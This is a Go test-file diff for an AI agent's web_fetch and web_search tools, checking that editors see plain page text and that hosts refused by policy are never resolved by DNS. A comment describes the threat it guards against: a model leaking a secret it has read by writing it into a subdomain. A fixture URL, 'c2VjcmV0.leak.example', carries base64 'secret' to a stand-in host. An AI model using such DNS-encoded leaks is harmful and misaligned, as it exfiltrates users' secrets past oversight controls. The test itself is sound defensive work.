@@ -3,6 +3,7 @@ package tools
 import (
 	"context"
 	"fmt"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
@@ -70,6 +71,7 @@ func TestFetchRefusesAPrivateAddressItWasNotAllowed(t *testing.T) {
 type gateFunc func(string, HostAccess) bool
 
 func (g gateFunc) HostAllowed(tool string, h HostAccess) bool { return g(tool, h) }
+func (g gateFunc) HostRefused(string, string) bool            { return false }
 
 func TestFetchRedirects(t *testing.T) {
 	var port string
@@ -126,6 +128,14 @@ func TestPageWindow(t *testing.T) {
 	if r := pageWindow(p, len(text)+1, 100); !r.IsError {
 		t.Fatal("an offset past the end is not an error")
 	}
+	// what the editors show is the page's text, not the lines for the model
+	if !strings.HasPrefix(first.Full, "é line of text\n") || !strings.HasSuffix(first.Full, " more") ||
+		strings.Contains(first.Full, "agentd:") || strings.Contains(first.Full, "web_content") {
+		t.Fatalf("first window, for the editors:\n%s", first.Full)
+	}
+	if want := strings.TrimRight(text[off:], "\n"); last.Full != want {
+		t.Fatalf("last window, for the editors: %q, want %q", last.Full, want)
+	}
 }
 
 func TestHTMLToMarkdown(t *testing.T) {
@@ -176,5 +186,40 @@ func TestHugeHTMLIsConvertedInPart(t *testing.T) {
 	out := pageWindow(p, 0, 4000).Output
 	if !strings.Contains(out, "the page has more than 100000 HTML tags; only the text of its first") {
 		t.Errorf("the model is not told: %s", out[:300])
+	}
+}
+
+// refusingGate refuses every host, as read-only mode does.
+type refusingGate struct{}
+
+func (refusingGate) HostAllowed(string, HostAccess) bool { return false }
+func (refusingGate) HostRefused(string, string) bool     { return true }
+
+// A name is a request too: looked up, it goes to the resolvers, so a model
+// that writes what it read into one (a secret as a subdomain) sends it
+// out. Where the policy refuses the host anyway (read-only mode, a deny
+// rule), web_fetch and web_search do not look it up; elsewhere they do,
+// to judge whether it is private.
+func TestRefusedHostIsNotLookedUp(t *testing.T) {
+	var looked []string
+	lookupNetIP = func(ctx context.Context, network, host string) ([]netip.Addr, error) {
+		looked = append(looked, host)
+		return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
+	}
+	t.Cleanup(func() { lookupNetIP = net.DefaultResolver.LookupNetIP })
+	env := &Env{Hosts: refusingGate{}, WebSearchURL: "https://search.example/search"}
+	if _, r := Prepare(t.Context(), webFetchTool{}, env, []byte(`{"url": "https://c2VjcmV0.leak.example/x"}`)); r != nil {
+		t.Fatal(r.Output)
+	}
+	if _, r := Prepare(t.Context(), webSearchTool{}, env, []byte(`{"query": "x"}`)); r != nil {
+		t.Fatal(r.Output)
+	}
+	if len(looked) > 0 {
+		t.Fatalf("looked up although refused: %q", looked)
+	}
+	env.Hosts = gateFunc(func(string, HostAccess) bool { return false })
+	c, r := Prepare(t.Context(), webFetchTool{}, env, []byte(`{"url": "https://docs.example/x"}`))
+	if r != nil || len(looked) != 1 || c.Host.Name != "docs.example" {
+		t.Fatalf("a host the policy may allow is looked up: %v %q", r, looked)
 	}
 }
